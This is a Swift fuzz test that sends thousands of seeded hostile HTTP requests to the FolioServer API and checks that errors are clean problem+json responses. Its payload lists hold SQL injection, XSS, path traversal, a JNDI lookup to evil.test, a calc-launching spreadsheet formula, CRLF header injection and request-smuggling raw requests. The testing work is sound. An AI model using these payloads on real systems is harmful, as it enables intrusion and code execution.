import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import NIOConcurrencyHelpers
import Testing

@testable import FolioServer

/// Thousands of hostile requests, generated from the route table, over a real
/// socket: malformed JSON, huge and odd numbers, wrong types, bad ids,
/// injection strings in paths, filters and bodies, and header abuse. None may
/// get a 5xx, and every error must be problem+json with a request id.
/// Seeded: `FOLIO_FUZZ_SEED=<n>` replays a failure the message names.
@Suite("Hostile requests, generated")
struct HostileRequestFuzzTests {
    static let requestsPerDatabase = 2_000
    static let rawShare = 10  // one request in ten is written by hand on a raw socket

    @Test("2,000 generated hostile requests: no 5xx, every error problem+json with a request id", arguments: TestDatabaseKind.all)
    func hostileRequests(kind: TestDatabaseKind) async throws {
        let seed = ProcessInfo.processInfo.environment["FOLIO_FUZZ_SEED"].flatMap(UInt64.init) ?? 20_261_129
        // Plaid configured (a fake on loopback), so its routes are exercised, not just refused with 503 plaid_not_configured.
        try await withFakePlaid { plaid in try await withTestApp(kind, configure: { $0.plaid = plaid.settings }, overSocket: true) { client, env in
            let port = try #require(client.port)
            let tokens = try await signUp(client, env, email: "fuzz@example.com")
            let token = try #require(tokens["access_token"] as? String)
            let accountID = try #require((try json(try await client.execute(uri: "/api/accounts", method: .get, headers: bearer(tokens)))["data"] as? [[String: Any]])?.first?["id"] as? String)
            let table = RouteTable()
            _ = env.services.buildRouter(table: table)
            let routes = table.routes.filter { !$0.path.hasPrefix("/api/test") }
            #expect(routes.count > 20)

            var generator = HostileRequests(seed: seed, routes: routes, token: token, accountID: accountID)
            let requests = (0..<Self.requestsPerDatabase).map { generator.next(index: $0, raw: $0 % Self.rawShare == 0) }
            let failures = NIOLockedValueBox<[String]>([])
            // Eight at a time, as a client with several connections would send them.
            try await withThrowingTaskGroup(of: Void.self) { group in
                for lane in 0..<8 {
                    group.addTask {
                        for request in requests.enumerated().filter({ $0.offset % 8 == lane }).map(\.element) {
                            if let failure = try await Self.send(request, client: client, port: port) {
                                failures.withLockedValue { $0.append("seed \(seed), request \(request.index) (\(request.summary)): \(failure)") }
                            }
                        }
                    }
                }
                try await group.waitForAll()
            }
            let found = failures.withLockedValue { $0 }
            #expect(found.isEmpty, "\(found.count) of \(requests.count) failed; the first: \(found.prefix(5).joined(separator: "\n"))")
            #expect(!env.logs.lines.contains { $0.contains("unhandled error") })
        } }
    }

    /// Sends one request; returns what was wrong with its answer, or nil.
    static func send(_ request: HostileRequest, client: some TestClientProtocol, port: Int) async throws -> String? {
        let status: Int, contentType: String?, body: String, requestIDHeader: String?
        if let raw = request.raw {
            let connection = try RawConnection(port: port)
            try? connection.send(raw)
            let text = await connection.receiveAll(within: .seconds(20))
            guard let answer = RawResponse(text) else { return "no HTTP answer: \(text.prefix(200).debugDescription)" }
            (status, contentType, body, requestIDHeader) = (answer.status, answer.headers["content-type"], answer.body, answer.headers["x-request-id"])
        } else {
            let response = try await client.execute(uri: request.uri, method: request.method, headers: request.headers, body: request.body.map { ByteBuffer(string: $0) })
            (status, contentType, body, requestIDHeader) = (Int(response.status.code), response.headers[.contentType], String(buffer: response.body), response.headers[HTTPField.Name("X-Request-ID")!])
        }
        if status >= 500 { return "status \(status): \(body.prefix(300))" }
        guard status >= 400 else { return nil }
        guard contentType == "application/problem+json" else { return "status \(status) with content type \(contentType ?? "none")" }
        if request.method == .head { return nil }
        guard let problem = try? JSONDecoder().decode(Problem.self, from: Data(body.utf8)) else { return "status \(status): not a problem document: \(body.prefix(300))" }
        if problem.status != status { return "status \(status) but the document says \(problem.status)" }
        if problem.code.isEmpty || problem.request_id.isEmpty { return "a problem without a code or request id: \(body.prefix(300))" }
        if requestIDHeader != problem.request_id { return "X-Request-ID \(requestIDHeader ?? "none") is not the document's \(problem.request_id)" }
        if body.contains("SELECT ") || body.contains("INSERT ") || body.lowercased().contains("stack") { return "internals in the answer: \(body.prefix(300))" }
        return nil
    }
}

struct HostileRequest: Sendable {
    var index: Int
    var method: HTTPRequest.Method
    var uri: String
    var headers: HTTPFields
    var body: String?
    /// Bytes written by hand on a raw socket, instead of the fields above.
    var raw: String?

    var summary: String {
        raw.map { "raw \(String($0.prefix(120)).debugDescription)" } ?? "\(method) \(uri) body \(String((body ?? "none").prefix(120)).debugDescription)"
    }
}

/// Generates hostile requests from a seed (SplitMix64), so a run can be replayed.
struct HostileRequests {
    var state: UInt64
    let routes: [(path: String, methods: [HTTPRequest.Method])]
    let token: String
    let accountID: String

    init(seed: UInt64, routes: [(path: String, methods: [HTTPRequest.Method])], token: String, accountID: String) {
        self.state = seed
        self.routes = routes
        self.token = token
        self.accountID = accountID
    }

    mutating func random() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }

    mutating func pick<T>(_ choices: [T]) -> T { choices[Int(random() % UInt64(choices.count))] }
    mutating func chance(_ percent: UInt64) -> Bool { random() % 100 < percent }

    static let injections = [
        "' OR '1'='1", "1; DROP TABLE users;--", "\" OR 1=1 --", "<script>alert(1)</script>", "../../../../etc/passwd", "%00", "\u{0}",
        "${jndi:ldap://evil.test/a}", "{{7*7}}", "%s%s%s%n", "\u{202E}gnp.exe", "😀", "Ａ", String(repeating: "A", count: 5_000), "", " ", "-1",
        "NaN", "Infinity", "1e999999", "0x10", "null", "true", "[]", "{}", "=cmd|' /C calc'!A0", "\r\nSet-Cookie: a=b",
    ]
    static let numbers = [
        "1e999999", "-1e999999", "1e-999999", "100000000000000000000000000000000000000000.1", "100.00000000000000000000000000000000000001",
        "-0", "0", "-1", "0.001", "1.005", "99999999999999999999", "123456789012345678.12", "1.5e3", "-0.0", "00012", ".5", "5.", "+5",
        "9223372036854775808", "-9223372036854775809", "170141183460469231731687303715884105728", "0.1e-2",
    ]
    static let ids = ["00000000-0000-0000-0000-000000000000", "not-a-uuid", "1 OR 1=1", "%2e%2e%2f", String(repeating: "9", count: 300), "ffffffff-ffff-ffff-ffff-ffffffffffff", "🙂"]
    static let keys = [
        "amount", "quantity", "symbol", "side", "type", "order_type", "time_in_force", "limit_price", "stop_price", "notional", "description",
        "email", "password", "current_password", "new_password", "totp_code", "recovery_code", "token", "refresh_token", "session",
        "account_id", "client_order_id", "role", "is_admin", "user_id", "cash", "id",
    ]

    mutating func jsonValue(depth: Int = 0) -> String {
        switch random() % 9 {
        case 0: return pick(Self.numbers)
        case 1: return "\"" + pick(Self.numbers) + "\""
        case 2: return jsonString(pick(Self.injections))
        case 3: return pick(["null", "true", "false", "[]", "{}", "[1,2,3]", "\"\""])
        case 4 where depth < 3: return "{" + (0..<Int(random() % 4)).map { _ in jsonString(pick(Self.keys)) + ":" + jsonValue(depth: depth + 1) }.joined(separator: ",") + "}"
        case 5 where depth < 3: return "[" + (0..<Int(random() % 4)).map { _ in jsonValue(depth: depth + 1) }.joined(separator: ",") + "]"
        case 6: return jsonString(pick(["AAPL", "buy", "sell", "market", "limit", "stop", "day", "gtc", "ioc", "fok", accountID, "admin"]))
        default: return "\"" + pick(["1.00", "10", "0.5", "250.25"]) + "\""
        }
    }

    func jsonString(_ text: String) -> String {
        var quoted = "\""
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\"": quoted += "\\\""
            case "\\": quoted += "\\\\"
            case _ where scalar.value < 0x20: quoted += String(format: "\\u%04x", scalar.value)
            default: quoted.unicodeScalars.append(scalar)
            }
        }
        return quoted + "\""
    }

    mutating func body() -> String {
        switch random() % 12 {
        case 0: return pick(["{", "{\"amount\":", "[1,2", "{\"a\":1,}", "{'a':1}", "{\"a\":01}", "{\"a\":.5}", "{\"a\":1e}", "nul", "\u{FEFF}{}", "{\"a\":\"\\ud800\"}", ""])
        case 1: return String(repeating: "[", count: 5_000) + String(repeating: "]", count: 5_000)
        case 2: return "{" + (0..<3).map { _ in "\"amount\":" + jsonValue() }.joined(separator: ",") + "}"  // duplicate keys
        case 3: return pick(["[]", "null", "17", "\"text\"", "true"])
        default:
            let count = Int(random() % 6) + 1
            return "{" + (0..<count).map { _ in jsonString(pick(Self.keys)) + ":" + jsonValue() }.joined(separator: ",") + "}"
        }
    }

    mutating func path(_ pattern: String) -> String {
        pattern.split(separator: "/", omittingEmptySubsequences: false).map { segment -> String in
            guard segment.hasPrefix(":") || segment.hasPrefix("{") else { return String(segment) }
            if segment.contains("id") && chance(40) { return accountID }
            return pick(Self.ids).addingPercentEncoding(withAllowedCharacters: .urlPathAllowed) ?? "x"
        }.joined(separator: "/")
    }

    mutating func query() -> String {
        guard chance(50) else { return "" }
        let names = ["limit", "cursor", "type", "from", "to", "status", "symbol", "action", "account_id", "range", "page"]
        let values = Self.injections + Self.numbers + ["2026-13-45", "2026-11-29T25:00:00Z", "yesterday"]
        return "?" + (0..<Int(random() % 3 + 1)).map { _ in
            pick(names) + "=" + (pick(values).addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "")
        }.joined(separator: "&")
    }

    mutating func headers(hasBody: Bool) -> HTTPFields {
        var headers: HTTPFields = [:]
        switch random() % 6 {
        case 0: break
        case 1: headers[.authorization] = "Bearer " + pick([token + "x", "a.b.c", "", String(repeating: "A", count: 4_000), "eyJhbGciOiJub25lIn0.e30."])
        case 2: headers[.authorization] = pick(["Basic YTpi", "Bearer", "bearer " + token, "Token " + token])
        default: headers[.authorization] = "Bearer " + token
        }
        if hasBody { headers[.contentType] = chance(85) ? "application/json" : pick(["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16"]) }
        if chance(15) { headers[HTTPField.Name("X-Request-ID")!] = pick(Self.injections.filter { !$0.contains("\r") && !$0.contains("\u{0}") && $0.count < 200 }) }
        if chance(10) { headers[HTTPField.Name("X-Forwarded-For")!] = pick(["1.2.3.4, 5.6.7.8", "not an ip", "::ffff:127.0.0.1", String(repeating: "9.", count: 200)]) }
        if chance(10) { headers[.origin] = pick(["https://evil.test", "null", "https://app.example.com.evil.test"]) }
        if chance(10) { headers[.cookie] = pick(["folio_session=" + String(repeating: "x", count: 300), "a=b; folio_session=", "folio_session=\(token)"]) }
        if chance(5) { headers[HTTPField.Name("Idempotency-Key")!] = pick(Self.injections.filter { !$0.contains("\r") && !$0.contains("\u{0}") && $0.count < 300 }) }
        return headers
    }

    mutating func raw() -> String {
        let route = pick(routes)
        let target = path(route.path)
        let host = "Host: folio.test\r\n"
        switch random() % 10 {
        case 0: return "POST \(target) HTTP/1.1\r\n\(host)Transfer-Encoding: chunked\r\n\r\n\(pick(["zz", "-1", "ffffffffffffffffff", "1;" + String(repeating: "a", count: 10_000)]))\r\nabc\r\n0\r\n\r\n"
        case 1: return "POST \(target) HTTP/1.1\r\n\(host)Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        case 2: return "GET \(target) HTTP/1.1\r\n\(host)\(pick(["Bad Name", "X-A\u{0}", "(x)", ""])): 1\r\n\r\n"
        case 3: return "GET \(target) HTTP/1.1\r\n\(host)X-Big: \(String(repeating: "b", count: 70_000))\r\n\r\n"
        case 4: return "GET \(target) HTTP/1.1\r\n\(host)" + (0..<200).map { "X-\($0): 1\r\n" }.joined() + "\r\n"
        case 5: return "\(pick(["GE T", "G\u{1}T", "PRI", "get"])) \(target) HTTP/1.1\r\n\(host)\r\n"
        case 6: return "GET \(target) HTTP/\(pick(["9.9", "1.x", "2"]))\r\n\(host)\r\n"
        case 7: return "POST \(target) HTTP/1.1\r\n\(host)Content-Length: \(pick(["-1", "abc", "1e3", "99999999999999999999"]))\r\n\r\n{}"
        case 8: return "GET \(target) HTTP/1.1\r\n\(host)X-Note: a\rb\r\n\r\n"
        default: return "GET \(target)\(pick(["#frag", "?a=%zz", "?\u{7f}=1", " extra"])) HTTP/1.1\r\n\(host)Connection: close\r\n\r\n"
        }
    }

    mutating func next(index: Int, raw useRaw: Bool) -> HostileRequest {
        if useRaw { return HostileRequest(index: index, method: .get, uri: "", headers: [:], body: nil, raw: raw()) }
        let route = pick(routes)
        // Mostly a method the route has; sometimes one it does not.
        let method = chance(85) ? pick(route.methods + [.head]) : pick([HTTPRequest.Method.get, .post, .put, .patch, .delete, .options])
        let hasBody = method == .post || method == .put || method == .patch
        return HostileRequest(
            index: index, method: method, uri: path(route.path) + query(), headers: headers(hasBody: hasBody), body: hasBody ? body() : nil, raw: nil)
    }
}
